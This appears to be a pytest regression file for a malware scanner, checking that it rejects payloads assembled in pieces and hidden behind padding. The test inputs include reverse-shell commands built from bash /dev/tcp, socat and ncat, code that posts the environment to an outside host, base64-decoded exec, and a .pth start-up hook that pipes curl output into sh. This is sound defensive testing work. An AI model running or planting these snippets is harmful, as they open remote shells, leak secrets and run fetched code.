"""Session 59 (lead): what the lead changed while merging, each with the attack it holds."""

from __future__ import annotations

import pytest

import redteam_kit as kit
from analyzer.model import Decision

REVERSE_SHELL = "subprocess.reverse-shell-command"


@pytest.mark.parametrize("sample", kit.corpus_samples("malicious/lead59_*.py"))
def test_a_payload_kept_in_pieces_rejects(sample: str) -> None:
    """malware59's telltales read folded texts; a list bound to a name and joined elsewhere, or grown by `+=`,
    folds to nothing (fold.py joins no named list), and these two were accepted after it."""
    kit.assert_held(kit.scan_sample(sample), REVERSE_SHELL, Decision.REJECT)


@pytest.mark.parametrize("source", [
    'PARTS = ("/dev/", "tcp/", "10.0.0.1/", "9001")\n'
    'def hook(p):\n    open(p, "w").write("bash -i >& " + "".join(PARTS))\n',
    'W = ["socat"]\nW.append("tcp:10.0.0.1:4444")\nW.append("exec:/bin/sh")\n'
    'open("s.sh", "w").write(" ".join(W))\n',
    'argv = ["ncat", "x.example"]\nargv.extend(["443", "-e", "/bin/bash"])\nopen("s.sh", "w").write(" ".join(argv))\n',
])
def test_pieces_the_fold_does_not_join_are_read_in_source_order(source: str) -> None:
    kit.assert_held(kit.scan_text(source), REVERSE_SHELL, Decision.REJECT)


@pytest.mark.parametrize("source", [
    # the words of honest command lines and prose beside each other, as malware59's twin has them
    'check = " ".join(["nc", "-z", "localhost", "8002"])\nbuild = ["powershell", "-File", "build.ps1"]\n'
    'note = "pass " + "-w hidden" + " to hide the window"\nprint(check, build, note)\n',
    'paths = ["/dev/", "shm/", "data"]\nports = ["tcp", "8002"]\nprint("".join(paths), ports)\n',
])
def test_honest_neighbouring_words_spell_no_payload(source: str) -> None:
    assert not kit.holds(kit.scan_text(source), "subprocess.")


@pytest.mark.parametrize("source", [
    # folded as a path where site data is written (red team 59c's shared-file sink reaches paths.py's fold)
    "import asyncio, pandas as pd\nasync def where():\n    return '/tmp/x.csv'\n"
    "async def main():\n    pd.read_csv('/data/site.csv').to_csv(await where())\nasyncio.run(main())\n",
    # the environment handed on whole
    "import asyncio, os, requests\nasync def env():\n    return os.environ\n"
    "async def main():\n    requests.post('https://x.example', json=dict(await env()))\nasyncio.run(main())\n",
    # a text built for a decoder
    "import asyncio, base64\nasync def part():\n    return 'cHJpbnQoMSk='\n"
    "async def main():\n    exec(base64.b64decode(await part()))\nasyncio.run(main())\n",
])
def test_an_awaited_value_is_read_not_an_internal_error(source: str) -> None:
    """libcst's Await holds `expression`, not `value`: three readers asked for `.value` and failed on the file
    (the corpus' m48 sample after red team 59c's sink began folding an awaited value)."""
    report = kit.scan_text(source)
    assert not kit.holds(report, "unanalyzable.internal-error"), kit.findings(report)


def test_the_asyncio_sample_has_no_internal_error() -> None:
    report = kit.scan_sample("malicious/m48_asyncio_subprocess_fetch_run.py")
    assert not kit.holds(report, "unanalyzable.internal-error"), kit.findings(report)


def test_a_text_pth_is_read_before_padding(tmp_path) -> None:
    """A `.pth` ranked as data (model weights' name): more padding files than the limit pushed the start-up hook out
    of the read and malware59's job went from reject to escalate (tests/test_no_downgrade.py in the fresh CI)."""
    files = {f"pad_{i:05d}.txt": "x\n" for i in range(kit.POLICY.limits.max_files + 1)}
    files["site_hook.pth"] = "/opt/site-libs\n" * 300 + "import os; os.system('curl -s https://x.example/i | sh')\n"
    files["client.py"] = "import nvflare.client as flare\nflare.init()\n"
    kit.assert_held(kit.scan_files(tmp_path, files), "files.pth-hook", Decision.REJECT)


def test_a_text_pth_opening_like_a_zip_is_read_before_padding(tmp_path) -> None:
    """Ranking a `.pth` as text only when it did not open like a zip (`PK`) let a hook whose first path is `PKGS/...`
    rank as weights again: the detector calls it text (no NUL), so the rank does too."""
    files = {f"pad_{i:05d}.txt": "x\n" for i in range(kit.POLICY.limits.max_files + 1)}
    files["site_hook.pth"] = "PKGS/lib\nimport os; os.system('curl -s https://x.example/i | sh')\n"
    kit.assert_held(kit.scan_files(tmp_path, files), "files.pth-hook", Decision.REJECT)
